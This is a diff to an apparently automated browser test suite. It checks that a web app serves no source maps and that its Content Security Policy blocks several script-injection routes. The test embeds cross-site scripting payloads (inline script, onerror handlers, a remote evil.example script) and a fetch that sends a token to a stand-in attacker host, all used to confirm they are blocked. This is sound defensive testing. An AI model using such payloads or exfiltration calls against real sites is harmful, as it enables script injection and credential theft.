@@ -29,6 +29,12 @@ it('has a page asked for anew every time, and what its name identifies kept for 
   expect(answer.headers.get('cache-control')).toBe('public, max-age=31536000, immutable');
 });
 
+it('serves no source maps', async () => {
+  const [script = ''] = /\/assets\/[\w.-]+\.js/.exec(await (await get('/auth')).text()) ?? [];
+  expect((await get(`${script}.map`)).status).toBe(404);
+  expect(await (await get(script)).text()).not.toContain('sourceMappingURL');
+});
+
 it('knows each page by one address', async () => {
   const answer = await get('/index.html');
   expect(answer.status).toBe(301);
@@ -56,22 +62,38 @@ it.each(['/%E0%A4%A', '/%', '/app/%ff'])('answers %s, which cannot be decoded, a
 });
 
 it('runs no script and sends nothing that the policy does not name', async () => {
-  const page = await visits.open('/auth', { troubles: [/Content Security Policy/, /^404: GET .*nowhere\.png/, /^failed: .*evil\.example/] });
+  const page = await visits.open('/auth', { troubles: [/Content Security Policy/i, /requires 'Trusted/, /^404: GET .*nowhere\.png/, /^failed: .*evil\.example/] });
   await page.getByRole('tab', { name: 'Sign In' }).waitFor();
   const outcome = await page.evaluate(async () => {
+    const text = 'window.injected = true';
     const script = document.createElement('script');
-    script.textContent = 'window.injected = true';
-    document.head.append(script);
-    const handler = document.createElement('img');
-    handler.setAttribute('onerror', 'window.injected = true');
-    handler.src = '/nowhere.png';
-    document.body.append(handler);
-    await new Promise((resolve) => handler.addEventListener('error', resolve));
+    const image = document.createElement('img');
+    const ways: Record<string, () => void> = {
+      text: () => document.head.append(Object.assign(script, { textContent: text })),
+      html: () => (document.body.innerHTML += `<img src="/nowhere.png" onerror="${text}">`),
+      handler: () => image.setAttribute('onerror', text),
+      elsewhere: () => (script.src = 'https://evil.example/evil.js'),
+      upload: () => (script.src = '/uploads/evil.js'),
+      timer: () => setTimeout(text),
+      policy: () => (window as never as { trustedTypes: { createPolicy: (name: string, rules: object) => void } }).trustedTypes.createPolicy('mine', {}),
+    };
+    const refused = Object.entries(ways).flatMap(([name, go]) => {
+      try {
+        go();
+        return [];
+      } catch {
+        return [name];
+      }
+    });
     const sent = await fetch('https://evil.example/?token=secret').then(
       () => true,
       () => false,
     );
-    return { injected: 'injected' in window, sent };
+    return { refused, injected: 'injected' in window, sent };
   });
-  expect(outcome).toEqual({ injected: false, sent: false });
+  expect(outcome).toEqual({
+    refused: ['text', 'html', 'handler', 'elsewhere', 'upload', 'timer', 'policy'],
+    injected: false,
+    sent: false,
+  });
 });
